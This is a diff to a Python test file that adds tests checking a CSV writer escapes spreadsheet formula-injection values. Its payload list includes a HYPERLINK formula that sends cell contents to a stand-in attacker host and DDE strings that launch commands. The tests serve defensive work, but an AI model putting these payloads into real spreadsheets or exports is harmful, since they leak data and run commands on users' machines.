@@ -2,13 +2,17 @@
 
 from __future__ import annotations
 
+import csv
 import textwrap
+from pathlib import Path
 
+import pandas as pd
 import pytest
 from nltk import redos
 
-from analysis import clean_text, split_sentences
+from analysis import clean_text, split_sentences, write_table
 from analysis.corpus import sentences
+from analysis.io import is_formula_text
 
 # --------------------------------------------------------------------------------------------
 # Item 7: the cleaning audit stays linear in the input on hard-wrapped text.
@@ -120,3 +124,51 @@ def test_long_line_without_sentence_ends_is_cut_at_spaces() -> None:
     assert all(s.split(" ") == ["word"] * len(s.split(" ")) for s in out)
     assert sum(len(s.split(" ")) for s in out) == len(words)
     assert max(len(s) for s in out) <= sentences.MAX_UNIT_CHARS
+
+
+# --------------------------------------------------------------------------------------------
+# Item 9: spreadsheet formula injection in every CSV written by write_table.
+# --------------------------------------------------------------------------------------------
+
+_PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    '- HYPERLINK("http://evil.example")',
+    "=A1",
+]
+
+
+def test_write_table_neutralises_formula_text_and_keeps_numbers(tmp_path: Path) -> None:
+    frame = pd.DataFrame(
+        {
+            "outlet": _PAYLOADS,
+            "title": ["Plain title"] * len(_PAYLOADS),
+            "sentence": pd.Series(_PAYLOADS, dtype="string"),
+            "group": pd.Categorical(_PAYLOADS),
+            "compound": [-0.5] * len(_PAYLOADS),
+            "n": [-3] * len(_PAYLOADS),
+        }
+    )
+    path = write_table(frame, tmp_path / "t.csv")
+    back = pd.read_csv(path, keep_default_na=False)
+    for col in ("outlet", "sentence", "group"):
+        assert list(back[col]) == ["'" + p for p in _PAYLOADS], col
+    assert list(back["title"]) == ["Plain title"] * len(_PAYLOADS)
+    assert list(back["compound"]) == [-0.5] * len(_PAYLOADS)
+    assert list(back["n"]) == [-3] * len(_PAYLOADS)
+    assert frame["outlet"].tolist() == _PAYLOADS  # the caller's frame is not modified
+
+
+def test_write_table_leaves_numbers_and_inert_text_alone(tmp_path: Path) -> None:
+    cells = ["-0.5", "+3%", "1,000", "- A bullet (with a note).", "=fault", "\t\t", "plain"]
+    path = write_table(pd.DataFrame({"text": cells}), tmp_path / "t.csv")
+    with path.open(encoding="utf-8", newline="") as handle:
+        assert [row[0] for row in csv.reader(handle)] == ["text", *cells]
+
+
+def test_formula_after_a_carriage_return_or_spaces_is_recognised() -> None:
+    for cell in ("\r=1+1", " =1+1", "\t@SUM(1)", "\n+1+1"):
+        assert is_formula_text(cell), repr(cell)
